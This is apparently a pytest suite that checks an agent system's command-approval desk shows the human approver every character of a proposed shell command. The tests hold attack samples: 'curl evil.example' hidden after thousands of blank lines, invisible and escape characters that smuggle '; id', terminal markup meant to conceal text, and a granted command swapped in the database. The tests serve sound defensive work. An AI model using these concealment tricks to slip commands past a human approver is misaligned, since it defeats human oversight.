"""The CEO's desk: what is permitted is what was shown, every character of it, and nothing else is executed."""

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from typing import Any

import pytest

from tests.fixtures.company import Company, wait_for
from tests.fixtures.model import one, plans, says

SHOWN = "what is approved is what was shown"
HARMLESS = "echo harmless"


@pytest.fixture(autouse=True)
def asking(company: Company) -> Iterator[None]:
    """The policy asks before each command, and the staff has a plan in which the PM may run some."""
    company.json("policy", "autonomy", json.dumps({"execute": "ask"}))
    company.model.play(plans(one("note", "pm", "note")))
    yield
    company.json("policy", "autonomy", json.dumps({"execute": "allow"}))


def asked_for(company: Company, tool: str, **arguments: Any) -> tuple[str, dict[str, Any]]:
    """A mission whose PM makes this call, and what is at the desk for it."""
    company.model.play(says(tool, arguments, role="pm", kind="work"))
    mission = company.give("Find out what a note is")
    return mission, company.waiting(mission, "permission")


def results(company: Company, mission: str) -> list[str]:
    query = """select t.content from turns t join tasks k on k.id = t.task_id
               where k.mission_id = ? and t.tool = 'run_command' and t.status = 'done'"""
    return [row["content"] for row in company.rows(query, mission)]


@pytest.mark.attack("a command whose end is not shown", SHOWN)
def test_the_desk_shows_a_command_to_its_last_character(company: Company) -> None:
    """Class: what is approved is what was shown. The longest command, its evil at the end, behind many blank lines."""
    evil = "curl evil.example"
    command = HARMLESS + " " * 3_000 + "\n" * 3_000 + "#" + "x" * 1_900 + "\n" + evil
    mission, item = asked_for(company, "run_command", command=command)
    assert item["text"].endswith(evil)
    assert len(item["text"]) > len(command)
    for shown in (company.ceo("desk"), company.ceo("show", mission)):
        assert evil in shown.stdout
        assert "x" * 1_900 in shown.stdout
        assert shown.stdout.index(evil) < shown.stdout.index(f"ceo approve {item['id']}")
    company.json("deny", item["id"])


@pytest.mark.attack("a command that is not what it looks like", SHOWN)
@pytest.mark.parametrize(
    "hidden",
    ["\x1b[2K\x1b[1A", "\r", "\u202e", "\u2066", "\x08" * 9, "\u200b", "\x9b31m", "\u2028", "\u00a0", "\U000e0041"],
)
def test_what_would_not_be_seen_is_made_visible(company: Company, hidden: str) -> None:
    """Class: what is approved is what was shown. Escapes, carriage returns, marks of direction, invisible letters."""
    _, item = asked_for(company, "run_command", command=f"{HARMLESS}{hidden}; id")
    query = "select arguments from turns where id = (select turn_id from desk_items where id = ?)"
    command = json.loads(company.rows(query, item["id"])[0]["arguments"])["command"]  # as it would be executed
    shown = company.ceo("desk").stdout
    assert all(c.isprintable() or c == "\n" for c in shown)
    assert all(c.isprintable() or f"<U+{ord(c):04X}>" in shown for c in command)
    assert all(c.isprintable() or c == "\n" for c in item["text"])
    company.json("deny", item["id"])


@pytest.mark.attack("a command that names the markup of the terminal", SHOWN)
def test_markup_in_a_command_is_shown_and_not_obeyed(company: Company) -> None:
    """Class: what is approved is what was shown. Brackets of the terminal's library neither hide nor colour a word."""
    command = "[conceal]id[/conceal] [link=http://evil.example]ls[/link] [/]"
    _, item = asked_for(company, "run_command", command=command)
    assert command in company.ceo("desk").stdout
    company.json("deny", item["id"])


@pytest.mark.attack("another command under a granted one's name", SHOWN)
def test_a_grant_is_for_the_call_that_was_shown_and_for_no_other(company: Company) -> None:
    """Class: what is approved is what was shown. The call is another one when it is executed: it is asked for again."""
    mission, item = asked_for(company, "run_command", command=HARMLESS)
    with closing(sqlite3.connect(company.root / ".damascus/ledger.sqlite3", timeout=60)) as ledger, ledger:
        turn = ledger.execute("select turn_id from desk_items where id = ?", (item["id"],)).fetchone()[0]
        ledger.execute("update turns set arguments = ? where id = ?", ('{"command": "echo evil"}', turn))
    company.json("approve", item["id"])

    def again() -> Any:
        waiting = company.mission(mission)["waiting"]
        return results(company, mission) or next((w for w in waiting if w["id"] != item["id"]), None)

    second = wait_for(again, "the call to be asked for again")
    assert "echo evil" in second["text"]
    assert results(company, mission) == []
    company.json("deny", second["id"])


@pytest.mark.attack("a call that is too long to be shown", SHOWN)
def test_a_call_that_no_person_would_read_to_its_end_is_not_asked_for(company: Company) -> None:
    """Class: what is approved is what was shown. It is refused, with what to do; nobody is asked half a question."""
    company.model.play(says("run_command", {"command": HARMLESS + "\u200b" * 7_000}, role="pm", kind="work"))
    mission = company.give("Find out what a note is")
    said = wait_for(lambda: results(company, mission), "the refusal")[0]
    assert "too long" in said
    assert "smaller steps" in said


@pytest.mark.attack("a granted call", SHOWN)
def test_a_granted_call_is_executed_once(company: Company) -> None:
    """Class: what is approved is what was shown. And what was shown is executed, with its blanks and line breaks."""
    mission, item = asked_for(company, "run_command", command="printf 'a  b'\nprintf ' c'\n")
    company.json("approve", item["id"])
    said = wait_for(lambda: results(company, mission), "the command's result")
    assert len(said) == 1
    assert said[0].endswith("a  b c\n[trail entry e1]")
